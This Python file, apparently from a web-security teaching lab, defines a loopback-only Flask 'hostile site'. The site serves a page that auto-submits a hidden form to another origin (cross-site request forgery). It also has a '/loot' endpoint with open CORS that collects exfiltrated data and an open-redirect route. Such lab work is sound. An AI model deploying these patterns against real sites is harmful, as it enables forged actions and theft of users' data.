"""A site of somebody else's, with no good in mind: pages that make a browser act, and a place for what it brings."""

from __future__ import annotations

import html
from collections.abc import Mapping
from urllib.parse import parse_qs

from flask import Flask, Response, request

from netlab.apps.weak.guard import LoopbackOnly
from netlab.servers.web import WebServer

PAGE = """<!doctype html>
<title>You have won</title>
<p>Weak Ticker, lesson 16: a hostile page, for this machine only.</p>
<form id="trap" method="post" action="{action}">{fields}</form>
<script>document.getElementById("trap").submit()</script>
"""


class HostileSite(WebServer):
    """A hostile site on loopback: another port, so another origin, than the one it is after.

    Args:
        action: where its form is sent by whoever opens `/`.
        fields: what the form holds.

    Attributes:
        loot: what was sent to `/loot?…`, in order.

    Example:
        >>> with WeakSite() as site, HostileSite(f"{site.url}/phone", {"phone": "+12025550199"}) as hostile:
        ...     visitor.open(hostile.url)
    """

    def __init__(self, action: str = "", fields: Mapping[str, str] | None = None) -> None:
        self.loot: list[dict[str, str]] = []
        app = Flask("hostile", static_folder=None)
        inputs = "".join(
            f'<input type="hidden" name="{html.escape(name)}" value="{html.escape(value)}">'
            for name, value in (fields or {}).items()
        )

        @app.get("/")
        def trap() -> str:
            return PAGE.format(action=html.escape(action), fields=inputs)

        @app.get("/loot")
        def loot() -> Response:
            query = parse_qs(request.query_string.decode())
            self.loot.append({name: values[0] for name, values in query.items()})
            return Response("", headers={"Access-Control-Allow-Origin": "*"})

        @app.get("/away")
        def away() -> Response:
            return Response("", 302, {"Location": request.args.get("to", "/")})

        super().__init__(LoopbackOnly(app.wsgi_app))

    @property
    def elsewhere(self) -> str:
        """The same site by another name: for a browser, `localhost` and `127.0.0.1` are two sites."""
        return self.url.replace("127.0.0.1", "localhost")
